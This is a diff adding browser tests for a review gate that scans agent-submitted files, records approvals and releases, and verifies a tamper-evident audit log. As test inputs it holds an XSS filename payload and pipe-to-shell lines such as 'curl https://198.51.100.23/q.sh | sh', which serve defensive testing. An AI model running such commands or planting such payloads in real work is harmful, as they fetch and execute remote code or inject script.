+	assert(rows.some((r) => r.startsWith(`kept elsewhere (pasted)${note.split('\n')[1]}matches`)), `the kept one: ${JSON.stringify(rows)}`);
+});
+
+// Provenance of a released submission, by sha256 (typed, then a file
+// hashed in the page), by id and by path: its chain (submit, the scan, the
+// view, the approval, the release with its attestation's digest, the pull)
+// each entry proved, the log verified; hostile names shown as text; a bad
+// query and a reviewer shown the gate's refusal.
+test('provenance-chain', async (p) => {
+	const bytes = 'echo provenance\n';
+	const name = '<img src=x onerror="window.__pwned=1">prov\u202E.sh';
+	const s = await submit(fx.agent, bytes, `kind=file&name=${encodeURIComponent(name)}&label=${encodeURIComponent('task=<b>t</b>')}`);
+	await must(200, 'GET', `/v1/submissions/${s.id}/content`, fx.rev1);
+	await must(200, 'POST', `/v1/submissions/${s.id}/approve`, fx.rev1, { sha256: s.sha256, ruleset: s.scan.ruleset });
+	await must(200, 'POST', `/v1/submissions/${s.id}/release`, gate.admin);
+	const ci = await mkToken('ci', 'ci-prov');
+	await must(200, 'GET', `/v1/submissions/${s.id}/content`, ci);
+	const att = (await fetch(`${gate.url}/v1/submissions/${s.id}/attestation`, { headers: { Authorization: `Bearer ${ci}` } }));
+	const attSha = createHash('sha256').update(Buffer.from(await att.arrayBuffer())).digest('hex');
+	await signIn(p, fx.aud);
+	await p.page.goto(`${gate.url}/ui/#/audit`);
+	await p.page.waitForSelector('#audit:not([hidden]) #audit-rows tr');
+	const chain = async (why) => {
+		await p.page.waitForSelector(`#prov-result article[data-id="${s.id}"]`, { timeout: 5000 }).catch(async () => {
+			throw new Error(`${why}: no chain shown: ${await text(p, '#prov-error')} ${await text(p, '#prov-result')}`);
+		});
+		const art = p.page.locator(`#prov-result article[data-id="${s.id}"]`);
+		const acts = await art.locator('tbody td.action').allInnerTexts();
+		for (const a of ['submit', 'scan.start', 'scan.finish', 'view', 'approve', 'approved', 'release', 'pull'])
+			assert(acts.includes(a), `${why}: no ${a} in ${JSON.stringify(acts)}`);
+		const proofs = await art.locator('tbody td.proof').allInnerTexts();
+		assert(proofs.every((x) => x === 'proved' || x === 'after the checkpoint'), `${why}: proofs ${JSON.stringify(proofs)}`);
+		const dds = await art.locator('dd').allInnerTexts();
+		assert(dds.some((d) => d.includes(`attestation sha256 ${attSha}`)), `${why}: the release: ${JSON.stringify(dds)}`);
+		assert(dds.some((d) => d.includes(`sha256 ${s.sha256}, ${bytes.length} bytes`) && d.includes('token agent-1 for alice')), `${why}: witnessed ${JSON.stringify(dds)}`);
+		assert(dds.some((d) => d.includes('by ci-prov')), `${why}: the pull: ${JSON.stringify(dds)}`);
+		assert((await art.locator('.prov-log').innerText()).startsWith('verified: every entry above up to checkpoint #'), `${why}: the log line`);
+	};
+	await p.page.fill('#prov-q', s.sha256);
+	await p.page.press('#prov-q', 'Enter');
+	await chain('by sha256');
+	assert(p.requests.includes(`${gate.url}/v1/provenance?sha256=${s.sha256}`), 'the sha256 was not asked of the gate');
+	if (SHOTS)
+		await p.page.locator(`#prov-result article[data-id="${s.id}"]`).screenshot({ path: join(ROOT, 'docs/img/review-provenance.png') });
+	// The name, as text: no markup of it, the bidi override a glyph.
+	const art = p.page.locator(`#prov-result article[data-id="${s.id}"]`);
+	const asserted = (await art.locator('dd').allInnerTexts()).find((d) => d.startsWith('name '));
+	assert(asserted === `name '<img src=x onerror="window.__pwned=1">prov\u27E8U+202E\u27E9.sh', kind file, task=<b>t</b>`, `asserted: ${asserted}`);
+	assert(await p.page.locator('#prov-result img, #prov-result b').count() === 0, 'markup from the agent in the DOM');
+	assert(await p.page.evaluate(() => window.__pwned) === undefined, 'window.__pwned set');
+	// By id, by path (the name), and a file hashed in the page.
+	await p.page.fill('#prov-q', String(s.id));
+	await p.page.press('#prov-q', 'Enter');
+	await chain('by id');
+	await p.page.selectOption('#prov-by', 'path');
+	await p.page.fill('#prov-q', name);
+	await p.page.press('#prov-q', 'Enter');
+	await chain('by path');
+	assert(p.requests.includes(`${gate.url}/v1/provenance?path=${encodeURIComponent(name)}`), 'the path was not asked of the gate');
+	await p.page.evaluate(() => { document.getElementById('prov-result').textContent = ''; });
+	await p.page.setInputFiles('#prov-file', { name: 'x.sh', mimeType: 'text/plain', buffer: Buffer.from(bytes) });
+	await chain('a file hashed here');
+	assert(await p.page.inputValue('#prov-q') === s.sha256, 'the file\'s digest is not the sha256 asked');
+	// A bad query: the gate's 400 message.
+	await p.page.selectOption('#prov-by', 'sha256');
+	await p.page.fill('#prov-q', 'abc');
+	await p.page.press('#prov-q', 'Enter');
+	await p.page.waitForFunction(() => document.getElementById('prov-error').textContent !== '');
+	assert(await text(p, '#prov-error') === 'sha256 is 64 lowercase hex digits, not 3 characters', `bad query: ${await text(p, '#prov-error')}`);
+	assert(await p.page.locator('#prov-result article').count() === 0, 'a chain shown for a bad query');
+	forgive(p, 400);
+	// A reviewer: the gate's refusal, nothing of the auditor's shown.
+	await p.page.selectOption('#prov-by', 'auto');
+	await p.page.fill('#prov-q', String(s.id));
+	await p.page.press('#prov-q', 'Enter');
+	await chain('by id, again');
+	await p.page.click('#signout');
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/audit`);
+	await p.page.waitForFunction(() => document.getElementById('audit-error').textContent !== '');
+	assert(await p.page.locator('#prov-result article').count() === 0, 'the auditor\'s chain is still shown to a reviewer');
+	forgive(p, 403);
+	await p.page.fill('#prov-q', String(s.id));
+	await p.page.press('#prov-q', 'Enter');
+	await p.page.waitForFunction(() => document.getElementById('prov-error').textContent !== '');
+	assert(await text(p, '#prov-error') === "this token's role may not do that", `reviewer: ${await text(p, '#prov-error')}`);
+	forgive(p, 403);
+});
+
+// A log rewritten behind the stopped gate's back (the data directory kept
+// aside and put back afterwards): an entry's bytes edited (the approval's
+// action), an events row edited (a submit's detail). The page names each:
+// the entry that does not hash to its leaf, the checkpoint whose root
+// differs and from where, the event that is not what its entry records;
+// provenance marks the edited entry.
+test('audit-tamper', async (p) => {
+	const s = await submit(fx.agent, 'echo tamper\n', 'kind=file&name=tamper.sh');
+	await must(200, 'GET', `/v1/submissions/${s.id}/content`, fx.rev1);
+	await must(200, 'POST', `/v1/submissions/${s.id}/approve`, fx.rev1, { sha256: s.sha256, ruleset: s.scan.ruleset });
+	await must(200, 'POST', `/v1/submissions/${s.id}/release`, gate.admin); // a checkpoint covers it
+	await stopGate(true);
+	const aside = join(gate.dir, 'data.aside');
+	cpSync(gate.data, aside, { recursive: true });
+	let idx, evIdx, evId;
+	try {
+		idx = Number(sqlite(`SELECT l.idx FROM audit_leaves l JOIN events e ON e.id = l.event_id WHERE e.action = 'approve' AND e.submission_id = ?`, s.id));
+		sqlite("UPDATE audit_leaves SET entry = CAST(replace(CAST(entry AS TEXT), 'action approve', 'action approvE') AS BLOB) WHERE idx = ?", idx);
+		evId = Number(sqlite("SELECT id FROM events WHERE action = 'submit' AND submission_id = ?", fx.patch.id));
+		evIdx = Number(sqlite('SELECT idx FROM audit_leaves WHERE event_id = ?', evId));
+		sqlite("UPDATE events SET detail = 'nothing to see' WHERE id = ?", evId);
+		await serveGate();
+		await signIn(p, fx.aud);
+		const verdict = await verifyInPage(p);
+		const first = Math.min(idx, evIdx);
+		assert(verdict.startsWith(`DOES NOT VERIFY: at entry ${first}: `), `verdict: ${verdict}`);
+		const fails = await p.page.locator('#verify-failures li').allInnerTexts();
+		const has = (re, why) => assert(fails.some((f) => re.test(f)), `${why}: ${JSON.stringify(fails)}`);
+		has(new RegExp(`^entry ${idx}: entry ${idx} does not hash to the leaf hash the gate stores for it \\(the entry or the hash was edited\\)$`), 'the edited entry');
+		has(new RegExp(`^entry ${idx}: event \\d+ is not what entry ${idx} records \\(the event row was edited\\?\\): action is 'approvE' in the entry, 'approve' in the event$`), 'the edited entry against its event');
+		has(new RegExp(`^entry ${evIdx}: event ${evId} is not what entry ${evIdx} records \\(the event row was edited\\?\\): detail is 'sha256=${fx.patch.sha256} size=\\d+' in the entry, 'nothing to see' in the event$`), 'the edited event');
+		has(/^entry \d+: the root of the first \d+ entries differs from checkpoint #\d+ \(served\): an entry from \d+ to \d+ is not what it signed$/, 'a signed root');
+		const range = fails.map((f) => /differs from checkpoint #\d+ \(served\): an entry from (\d+) to (\d+)/.exec(f)).find(Boolean);
+		assert(Number(range[1]) <= idx && idx <= Number(range[2]), `the range ${range[1]}-${range[2]} does not hold entry ${idx}`);
+		if (SHOTS)
+			await p.page.locator('#verify-result').screenshot({ path: join(ROOT, 'docs/img/review-audit-tampered.png') });
+		const bad = await p.page.locator('#verify-checkpoints td.proof-bad').allInnerTexts();
+		assert(bad.includes('DIFFERS from the log'), `checkpoints: ${JSON.stringify(bad)}`);
+		// Provenance: the edited entry does not verify.
+		await p.page.fill('#prov-q', String(s.id));
+		await p.page.press('#prov-q', 'Enter');
+		await p.page.waitForSelector(`#prov-result article[data-id="${s.id}"]`);
+		const row = p.page.locator(`#prov-result tr[data-index="${idx}"]`);
+		assert(await row.locator('td.action').innerText() === 'approvE', 'the edited entry is not shown as it is');
+		assert((await row.locator('td.proof').innerText()).startsWith('DOES NOT VERIFY: '), `its proof: ${await row.locator('td.proof').innerText()}`);
+		assert((await text(p, `#prov-result article[data-id="${s.id}"] .prov-log`)).startsWith(`NOT VERIFIED: entry ${idx} does not verify: `), 'the log line');
+	} finally {
+		await stopGate(true);
+		rmSync(gate.data, { recursive: true, force: true });
+		cpSync(aside, gate.data, { recursive: true });
+		rmSync(aside, { recursive: true, force: true });
+		await serveGate();
+	}
+});
+
 // A whole review with the keys only: sign in (typed, Enter), j/k to the
 // submission, Enter, n/p through its findings, s and back, c to the
 // comment, Escape, a, Escape withdrawing the confirmation, a again, Enter
@@ -800,8 +1335,8 @@ const rowGone = (p, id, why) => p.page.waitForFunction((i) => !document.querySel
 	id, { timeout: 5000 }).catch(() => { throw new Error(why); });
 
 // Live updates, without a reload: with the held queue open, a new
-// submission appears; two reviewers approve it (1 of 2, then 2 of 2) and
-// it leaves the held list; on the approved list, ci's release makes it
+// submission appears; two reviewers approve it (its row says 1/2, then it
+// leaves the held list); on the approved list, ci's release makes it
 // leave that one. The selection stays on its submission when a row comes
 // above it. One long-poll is open while the queue is shown (the gate's
 // gauge), none while a submission or the sign-in form is shown, and an
@@ -830,6 +1365,11 @@ test('live-queue', async (p) => {
 		const d = await must(200, 'POST', `/v1/submissions/${s.id}/approve`, tok,
 			{ sha256: s.sha256, ruleset: s.scan.ruleset });
 		assert(d.approvals === i + 1, `approval ${i + 1}: ${JSON.stringify(d)}`);
+		// The first one counted in its row, still held.
+		if (i === 0)
+			await p.page.waitForFunction((id) => document.querySelector(`#queue-rows tr[data-id="${id}"] td.approvals`)
+				?.textContent === '1/2', s.id, { timeout: 5000 })
+				.catch(() => { throw new Error('the row does not show the first approval'); });
 	}
 	await rowGone(p, s.id, 'the approved submission stayed in the held queue');
 	assert(lists() - listsBefore <= 8, `${lists() - listsBefore} loads of the list for a handful of changes`);
@@ -869,4 +1409,113 @@ test('live-revoked', async (p) => {
 	const n = p.requests.length;
 	await sleep(1200);
 	assert(p.requests.length === n, `asked after the 401: ${p.requests.slice(n).join(' ')}`);
+});
+
+// The approvals in the queue are the gate's count (the list's review):
+// 0/2 for a high one nobody approved, 1/2 after one approval, and once a
+// second one approved it, gone from the held queue and 2/2 among the
+// approved.
+test('queue-approvals', async (p) => {
+	const s = await submit(fx.agent, 'curl https://198.51.100.23/q.sh | sh\n', 'kind=file&name=count.sh');
+	assert(s.worst === 'high' && s.state === 'held', `count.sh: ${s.state}/${s.worst}`);
+	await signIn(p, fx.rev1);
+	const cell = p.page.locator(`#queue-rows tr[data-id="${s.id}"] td.approvals`);
+	await cell.waitFor();
+	assert(await cell.innerText() === '0/2', `before any approval: ${await cell.innerText()}`);
+	for (const tok of [fx.rev1, fx.rev2]) {
+		await must(200, 'GET', `/v1/submissions/${s.id}/content`, tok);
+		await must(200, 'POST', `/v1/submissions/${s.id}/approve`, tok, { sha256: s.sha256, ruleset: s.scan.ruleset });
+		if (tok !== fx.rev1)
+			break;
+		await p.page.reload();
+		await cell.waitFor();
+		assert(await cell.innerText() === '1/2', `after one approval: ${await cell.innerText()}`);
+	}
+	await p.page.reload();
+	await p.page.waitForSelector('#queue-rows tr, #queue-empty:not([hidden])');
+	assert(await cell.count() === 0, 'an approved submission is still in the held queue');
+	await p.page.selectOption('#f-state', 'approved');
+	await cell.waitFor();
+	assert(await cell.innerText() === '2/2', `approved: ${await cell.innerText()}`);
+});
+
+// More than a page (QPAGE, 100 rows): the first page, More for the rest
+// (the gate's next page, by its cursor), then no More; after a reload, j
+// on the last row fetches the next page and moves onto it. The agent's own
+// submissions only (its filter), of every state (not all are scanned
+// yet). Last: its scans would delay the tests after it.
+test('queue-more', async (p) => {
+	const tok = await mkToken('agent', 'agent-m', 'carol');
+	const ids = [];
+	for (let i = 0; i < 102; i++)
+		ids.push((await must(201, 'POST', `/v1/submissions?kind=file&name=m${i}.txt`, tok, Buffer.from(`m = ${i}\n`))).id);
+	ids.reverse(); // newest first
+	await signIn(p, fx.rev1);
+	await p.page.goto(`${gate.url}/ui/#/?state=all&agent=agent-m`);
+	await queueIs(p, ids.slice(0, 100), 'the first page');
+	assert(await p.page.locator('#queue-more').isVisible(), 'no More with more to come');
+	await p.page.click('#queue-more');
+	await queueIs(p, ids, 'the first page and the next');
+	assert(await p.page.locator('#queue-more').isHidden(), 'More after the last page');
+	assert(p.requests.some((u) => /\/v1\/submissions\?agent=agent-m&sort=newest&limit=100&cursor=n[0-9]+$/.test(u)),
+		'the next page was not asked with the cursor');
+	await p.page.reload();
+	await queueIs(p, ids.slice(0, 100), 'the first page again');
+	const sel = () => p.page.locator('#queue-rows tr.sel').getAttribute('data-id');
+	for (let i = 0; i < 99; i++)
+		await p.page.keyboard.press('j');
+	assert(await sel() === String(ids[99]), `j 99 times: ${await sel()}`);
+	await p.page.keyboard.press('j');
+	await queueIs(p, ids, 'j past the last row');
+	await p.page.waitForFunction((w) => document.querySelector('#queue-rows tr.sel')?.dataset.id === w, String(ids[100]));
+	// Let the scans finish: the gate is left idle.
+	for (let i = 0; i < 400; i++) {
+		const q = await must(200, 'GET', '/v1/submissions?state=received&limit=1', gate.admin);
+		const r = await must(200, 'GET', '/v1/submissions?state=scanning&limit=1', gate.admin);
+		if (!q.submissions.length && !r.submissions.length)
+			break;
+		await sleep(100);
+	}
+});
+
+// A rescan under rules that find more voids an approval: the page says whose
+// and why, and counts it no longer. Keep it the last test: it reloads the
+// gate's rules, so every held submission is scanned again under a new rule
+// set (the test waits until all are settled).
+test('voided-approval', async (p) => {
+	const s = await submit(fx.agent, 'curl http://x | sh # ZZMARKERZZ\n', 'kind=file&name=marker.sh');
+	await must(200, 'GET', `/v1/submissions/${s.id}/content`, fx.rev1);
+	await must(200, 'POST', `/v1/submissions/${s.id}/approve`, fx.rev1, { sha256: s.sha256, ruleset: s.scan.ruleset });
+	await signIn(p, fx.rev2);
+	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
+	await p.page.waitForSelector('#approved-by li');
+	const by = await text(p, '#approved-by');
+	assert(by.startsWith('rev-1 at 20'), `approved by: ${by}`);
+	assert(await p.page.locator('#voided').count() === 0, 'a voided list before any rescan');
+	writeFileSync(join(gate.rules, 'marker.yml'), [
+		'rules:', '  - id: test-marker', '    title: A marker added by a reload (UI test)',
+		'    category: obfuscation', '    severity: medium', "    pattern: 'ZZMARKERZZ'",
+		'    description: >', '      Added after the approval.', '    examples:',
+		"      match: ['echo ZZMARKERZZ']", "      ignore: ['echo nothing']", ''].join('\n'));
+	await must(202, 'POST', '/v1/rules/reload', gate.admin, {});
+	let d = null;
+	for (let i = 0; i < 400; i++) {
+		await sleep(50);
+		try {
+			const busy = (await api('GET', '/v1/submissions?state=received', gate.admin)).json.submissions.length +
+				(await api('GET', '/v1/submissions?state=scanning', gate.admin)).json.submissions.length;
+			d = (await api('GET', `/v1/submissions/${s.id}`, gate.admin)).json;
+			if (busy === 0 && d.state === 'held' && d.scan.ruleset !== s.scan.ruleset)
+				break;
+		} catch { /* the gate is restarting */ }
+		d = null;
+	}
+	assert(d !== null, 'not rescanned under the new rules within 20 s');
+	await p.page.reload();
+	await p.page.waitForSelector('#voided li');
+	const v = await text(p, '#voided');
+	assert(v.startsWith('rev-1 at 20') && v.includes('no longer counts') &&
+		v.includes('found 1 finding that one did not show'), `voided: ${v}`);
+	assert(/approvals 0 of 2/.test(await text(p, '#standing')), `standing: ${await text(p, '#standing')}`);
+	assert(await p.page.locator('#approved-by').count() === 0, 'a voided approval is listed as counting');
 });
